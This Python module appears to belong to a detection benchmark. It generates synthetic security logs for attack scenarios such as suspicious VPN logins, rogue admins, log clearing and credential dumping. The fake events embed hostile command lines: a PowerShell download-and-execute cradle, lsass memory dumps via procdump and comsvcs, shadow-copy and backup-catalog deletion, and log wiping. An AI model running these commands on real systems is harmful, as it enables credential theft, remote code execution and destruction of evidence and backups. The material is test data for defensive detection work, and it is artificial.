"""What only hosts and servers see: accounts, processes, logs."""

import base64

from benchmarks.quality.elsewhere_wire.journal import SYSMON
from benchmarks.quality.elsewhere_wire.story import Play, Story, Telling

_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def two_countries(p: Play, level: int) -> Story:
    """A VPN account at home and far away: within minutes, within hours, from a network of the same country."""
    m, r = p.site.spare("laptop"), p.site.chance
    begin = p.start(9, 13)
    gap = (600, 5400, 4 * 3600)[level]
    for k, ip in enumerate(("73.158.64.9", ("95.24.11.8", "41.58.7.20", "45.14.71.6")[level])):
        ts = begin + k * gap
        who = f"Group <GP_STAFF> User <{m.user}> IP <{ip}>"
        p.note.syslog(ts, "stm-asa", "%ASA-6-113039", f"{who} AnyConnect parent session started.")
        p.note.syslog(
            ts + 1,
            "stm-asa",
            "%ASA-4-722051",
            f"{who} IPv4 Address <10.64.90.{r.randrange(201, 250)}> IPv6 address <::> assigned to session",
        )
    return p.told("vpn from two countries", level, [m, m.user], (begin, begin + gap + 60), (), "logs")


def new_admin(p: Play, level: int) -> Story:
    """Made, raised, used; then raised only; then a user of old into a group beside the administrators."""
    m, dc, by = p.site.spare("desk"), p.site.one("dc"), "itadmin" if level == 0 else p.site.spare("desk").user
    begin = p.start(9, 15)
    name = ("svc_update", "helpdesk2", m.user)[level]
    if level < 2:
        p.note.windows(
            begin,
            dc.name,
            4720,
            TargetUserName=name,
            TargetDomainName="STMARK",
            SubjectUserName=by,
            SubjectDomainName="STMARK",
            SamAccountName=name,
        )
    group = ("Domain Admins", "Administrators", "Backup Operators")[level]
    p.note.windows(
        begin + 60,
        dc.name,
        4728 if level == 0 else 4732,
        MemberName=f"CN={name},CN=Users,DC=stmark,DC=lan",
        MemberSid="S-1-5-21-77-1999",
        TargetUserName=group,
        SubjectUserName=by,
        SubjectDomainName="STMARK",
    )
    if level < 2:
        p.note.logon(begin + 400, p.site.one("file").name, name, m.ip, 10, m.name)
    return p.told(
        "new administrator",
        level,
        [m, name, by, group, dc.name, f"{dc.name}.stmark.lan", f"CN={name},CN=Users,DC=stmark,DC=lan"],
        (begin, begin + 500),
        (),
        "logs",
    )


def log_cleared(p: Play, level: int) -> Story:
    """The security log; the system's; a file of Linux."""
    m = p.site.spare("desk" if level < 2 else "linux")
    begin = p.start(9, 15)
    if level == 0:
        p.note.windows(begin, m.name, 1102, SubjectUserName=m.user, SubjectDomainName="STMARK")
    elif level == 1:
        p.note.process(
            begin,
            m.name,
            m.user,
            "C:\\Windows\\System32\\wevtutil.exe",
            "wevtutil cl System",
            "C:\\Windows\\System32\\cmd.exe",
        )
    else:
        p.note.syslog(
            begin,
            m.name,
            "sudo",
            "   tkline : TTY=pts/1 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log",
        )
    return p.told("log cleared", level, [m], (begin, begin + 60), (), "logs")


def service_installed(p: Play, level: int) -> Story:
    """A command line as a service; a program of a user's folder; a name that looks like the system's."""
    m = p.site.spare("desk")
    begin = p.start(9, 15)
    path = (
        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand JABzAD0A",
        f"C:\\Users\\{m.user}\\AppData\\Local\\Temp\\svcup.exe",
        "C:\\ProgramData\\Intel\\igfxsvc.exe",
    )[level]
    p.note.windows(
        begin,
        m.name,
        7045,
        "System",
        ServiceName=("mxqzrt", "UpdaterSvc", "Intel Graphics Helper")[level],
        ImagePath=path,
        ServiceType="user mode service",
        StartType="auto start",
        AccountName="LocalSystem",
    )
    return p.told("service installed", level, [m], (begin, begin + 60), (), "logs")


def encoded(p: Play, level: int) -> Story:
    """PowerShell in base64; a download in the clear; pieces put together."""
    m = p.site.spare("desk")
    begin = p.start(9, 15)
    code = "IEX (New-Object Net.WebClient).DownloadString('http://198.18.7.7/a')"
    line = (
        "powershell.exe -nop -w hidden -enc " + base64.b64encode(code.encode("utf-16-le")).decode(),
        "powershell -ep bypass -c \"iwr http://198.18.7.7/s.ps1 -OutFile $env:TEMP\\s.ps1; & $env:TEMP\\s.ps1\"",
        "powershell -c \"$a='I'+'E'+'X';&($a)((gc $env:APPDATA\\c.txt)-join'')\"",
    )[level]  # fmt: skip
    p.note.process(
        begin,
        m.name,
        m.user,
        _SHELL,
        line,
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\explorer.exe",
        )[level],
    )
    return p.told("powershell", level, [m], (begin, begin + 60), (), "logs")


def lsass(p: Play, level: int) -> Story:
    """mimikatz; comsvcs; only the access of one process to another."""
    m = p.site.spare("desk")
    begin = p.start(9, 15)
    if level == 0:
        p.note.process(
            begin,
            m.name,
            m.user,
            "C:\\Users\\Public\\procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp",
            "C:\\Windows\\System32\\cmd.exe",
        )
    elif level == 1:
        p.note.process(
            begin,
            m.name,
            m.user,
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\m.bin full",
            "C:\\Windows\\System32\\cmd.exe",
        )
    else:
        p.note.windows(
            begin,
            m.name,
            10,
            SYSMON,
            SourceImage="C:\\ProgramData\\upd\\helper.exe",
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            GrantedAccess="0x1410",
            CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|UNKNOWN(00000214)",
        )
    return p.told("lsass", level, [m], (begin, begin + 60), (), "logs")


def backup_stopped(p: Play, level: int) -> Story:
    """Shadow copies, the catalogue, the service."""
    m = p.site.one(("file", "sql", "backup")[level])
    begin = p.start(9, 15)
    image, line = (
        ("vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
        ("wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("sc.exe", "sc config VeeamBackupSvc start= disabled"),
    )[level]
    p.note.process(begin, m.name, "itadmin", f"C:\\Windows\\System32\\{image}", line, "C:\\Windows\\System32\\cmd.exe")
    return p.told("backup stopped", level, [m], (begin, begin + 60), (), "logs")


def walk(p: Play, level: int) -> Story:
    """Results of the portal one number after the other."""
    r, ip = p.site.chance, p.site.public(f"walker {p.site.seed}")
    begin = ts = p.start(9, 15)
    for k in range((300, 120, 60)[level]):
        ts += r.uniform(0.5, 1.5) * (0.5, 4, 40)[level]
        p.note.request(
            ts,
            ip,
            f"/api/results/{(48_211, 91_300, 71_552)[level] + k * (1, 1, 3)[level]}",
            status=200 if r.random() < 0.6 else 404,
            size=2200,
        )
    return p.told("records walked", level, [ip, "172.22.5.20", "stm-portal01"], (begin, ts), (ip,), "logs")


def guess_vpn(p: Play, level: int) -> Story:
    """Passwords tried at the concentrator."""
    r, ip = p.site.chance, p.site.public(f"guesser {p.site.seed}")
    m = p.site.spare("laptop")
    gap, count = ((2, 200), (20, 80), (200, 40))[level]
    begin = ts = p.start(0, 6)
    for k in range(count):
        ts += gap * r.uniform(0.5, 1.5)
        user = m.user if level == 0 else p.site.by_role["desk"][k % 60].user
        p.note.rejected(ts, user, ip)
    return p.told("vpn guessed", level, [ip, m, m.user, "stm-asa"], (begin, ts), (ip,), "logs")


ALL: tuple[Telling, ...] = (
    two_countries,
    new_admin,
    log_cleared,
    service_installed,
    encoded,
    lsass,
    backup_stopped,
    walk,
    guess_vpn,
)
